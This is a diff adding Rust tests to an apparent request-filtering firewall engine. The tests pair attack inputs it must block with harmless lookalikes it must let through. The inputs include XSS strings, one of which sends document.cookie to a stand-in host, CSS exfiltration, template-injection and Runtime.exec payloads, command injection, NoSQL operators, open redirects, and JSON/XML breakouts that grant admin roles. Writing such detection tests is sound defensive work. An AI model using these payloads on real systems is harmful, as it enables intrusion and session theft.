@@ -2808,6 +2808,8 @@ fn element_breakouts_and_stylesheet_instructions() {
             "</role><role>admin",
             " </ns:user > <ns:isAdmin>1</ns:isAdmin>",
             "</qty><price currency=\"EUR\">0.01</price><qty>",
+            "bob</displayName><role>administrator</role><displayName>bob",
+            "gift</note><unitPrice>0.01</unitPrice><note>x",
         ],
         &[
             "<p>Hello</p><p>World</p>",
@@ -4011,6 +4013,182 @@ fn set33_insert_row_breakouts_next_to_tuples_in_prose() {
         &[
             "Pairs ('a'),('b') and ('c') are listed",
             "O'Reilly (ed.), ('Learning Rust', 2nd)",
+        ],
+    );
+}
+
+/// Set 34: code named in prose and templates over plain data next to the same names
+/// doing work.
+#[test]
+fn code_named_in_prose_next_to_code_that_runs() {
+    table(
+        "xss",
+        Q,
+        &[
+            "';fetch('//x.example/?c='+document.cookie);//",
+            "x=document.cookie.split(';')",
+            "\"+document.cookie+\"",
+            "document.body.innerHTML=location.hash",
+            "el.innerHTML = html + payload",
+            "setTimeout('alert(1)', 0)",
+            "setTimeout(\"alert()\")",
+            "setInterval('location=\"//x.example\"', 10)",
+            "setTimeout(`fetch(x)`)",
+            "<style>@import 'http://x.example/x.css';</style><h1>Statement</h1>",
+            "<style>input[value^=a]{background:url(//x.example/a)}</style>",
+            "<style>p{}</style><img src=x onerror=alert(1)>",
+            "<script>tag=document.cookie</script>",
+        ],
+        &[
+            "Can't see my session cookie in document.cookie",
+            "DevTools shows the `sid` cookie but `document.cookie` returns an empty string. Is that expected?",
+            "I assign it with `el.innerHTML = html`. The markup shows up, but the script inside never runs.",
+            "Why does innerHTML ignore my <script> tags?",
+            "<style>@page { size: A4; margin: 18mm 15mm; @bottom-right { content: 'Page ' counter(page); } } h1 { color: #1a237e; }</style><h1>Statement</h1>",
+            "<style>table{border-collapse:collapse;width:100%}tr:nth-child(even){background:#f9f9f9}</style><table><tr><td>-42.50</td></tr></table>",
+            "Our linter flags `setTimeout(\"refresh()\", 1000)` as implied eval. Rewriting as `setTimeout(refresh, 1000)` fixes it",
+        ],
+    );
+    table(
+        "nodejs",
+        Q,
+        &[
+            "__proto__[isAdmin]=true",
+            "x.__proto__.polluted=1",
+            "__proto__",
+        ],
+        &["Disallow the use of the __proto__ property"],
+    );
+    table(
+        "ssti",
+        Q,
+        &[
+            "<#if 7*7==49>yes</#if>",
+            "<#list .data_model?keys as k>${k}</#list>",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            "{{ 'abc'.upper() }}",
+            "{{ dump() }}",
+            "{{ x.__class__ }}",
+        ],
+        &[
+            "<#if user.premium>Thanks for being a premium member, ${user.firstName}!</#if>",
+            "<#list items as item>${item.name}</#list>",
+            "Track your parcel here: {{ order.getTrackingUrl() }}",
+        ],
+    );
+    table(
+        "php",
+        Q,
+        &["$t('id')", "$t(\"cat /etc/passwd\")", "$x('system')"],
+        &["{{ $t('checkout.title') }}", "{{ $t('nav.home_page') }}"],
+    );
+    table(
+        "java",
+        Q,
+        &[
+            "Runtime.getRuntime().exec('id')",
+            "#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')",
+            "T(java.lang.Runtime).getRuntime().exec(\"id\")",
+            "java.lang.Runtime.getRuntime",
+        ],
+        &[
+            "Our integration uses Runtime.getRuntime().availableProcessors() to size the pool",
+            "Runtime.getRuntime().freeMemory() reports 12 MB",
+        ],
+    );
+    table(
+        "cmdi",
+        Q,
+        &[
+            "nslookup attacker.example",
+            "whoami /all",
+            "ifconfig eth0",
+            "useradd hacker",
+        ],
+        &[
+            "nslookup vs dig",
+            "pip install -r requirements.txt",
+            "apt-get install -y -qq libpq-dev",
+            "apt-get update -qq",
+        ],
+    );
+    table(
+        "nosql",
+        FieldKind::QueryName,
+        &["username.$ne", "password.$gt"],
+        &["user.name", "amount.$currency"],
+    );
+    table(
+        "code",
+        FieldKind::BodyKey,
+        &["py/reduce"],
+        &["py/object", "reduce"],
+    );
+    table(
+        "redirect",
+        Q,
+        &[
+            "https://attacker.example#@app.example.com/callback",
+            "https://attacker.example?@app.example.com/callback",
+        ],
+        &[
+            "https://app.example.com/cb?email=a@b.example",
+            "https://app.example.com/#/login",
+        ],
+    );
+}
+
+/// Whether `value` at `scope:name` (a field of `kind`) is refused: for rules bound to
+/// parameter or header names.
+fn blocks_at(scope: &'static str, name: &str, kind: FieldKind, value: &str) -> bool {
+    Engine::builtin()
+        .inspect(
+            [Field::new(
+                Location::new(scope, name.to_owned()),
+                kind,
+                value.as_bytes(),
+            )],
+            &Policy::default(),
+            &mut Budget::default(),
+        )
+        .blocks(Policy::default().threshold())
+}
+
+#[test]
+fn scheme_relative_targets_in_redirect_parameters() {
+    let at = |name: &str, value: &str| blocks_at("query", name, Q, value);
+    assert!(at("redirect_uri", "//attacker.example/callback"));
+    assert!(at("return_to", "//evil.example"));
+    assert!(at("next", "//evil.example:8443/x"));
+    assert!(!at("redirect_uri", "/account/settings"));
+    assert!(!at("image", "//cdn.example.com/a.png"));
+    assert!(!at("next", "/docs//guide"));
+}
+
+#[test]
+fn routing_override_headers_naming_a_path() {
+    let at = |name: &str, value: &str| blocks_at("header", name, FieldKind::HeaderValue, value);
+    assert!(at("x-original-url", "/admin"));
+    assert!(at("x-rewrite-url", "/admin/deleteUser?username=carlos"));
+    assert!(at("x-original-url", "%2fadmin"));
+    assert!(!at("x-forwarded-prefix", "/api"));
+    assert!(!at("x-original-url", "n/a"));
+}
+
+#[test]
+fn values_that_close_a_json_string_and_add_members() {
+    table(
+        "json",
+        FieldKind::BodyValue,
+        &[
+            "bob\",\"role\":\"admin\",\"email_verified\":true,\"x\":\"",
+            "x\", \"isAdmin\": true, \"y\": \"",
+        ],
+        &[
+            "{\"a\":\"b\",\"c\":1}",
+            "He said \"hi\", then left: fine",
+            "Size: 8\"x11\", \"A4\" also works",
+            "[\"red\",\"blue\"]",
         ],
     );
 }
